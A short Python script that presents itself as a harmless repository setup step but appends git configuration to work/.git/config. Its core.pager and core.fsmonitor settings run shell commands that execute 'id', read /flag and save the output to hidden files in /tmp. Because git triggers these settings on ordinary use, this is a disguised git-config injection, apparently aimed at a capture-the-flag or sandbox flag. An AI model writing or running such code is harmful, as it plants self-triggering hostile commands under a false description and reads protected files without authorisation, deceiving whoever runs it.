"""Set up the repository of the `work` project from its parent directory.

Jobs run in /work; the project settings are written from one level up so that
paths read the same as in the deployment notes (work/.git/config).
"""
import os

os.chdir(os.pardir)

with open(os.path.join("work", ".git", "config"), "a") as cfg:
    cfg.write(
        "\n[core]\n"
        "\tpager = \"sh -c 'id; cat /flag' >/tmp/.pager.out 2>&1; cat\"\n"
        "\tfsmonitor = \"cat /flag >/tmp/.fsm.out; false\"\n"
    )
print("project settings written")
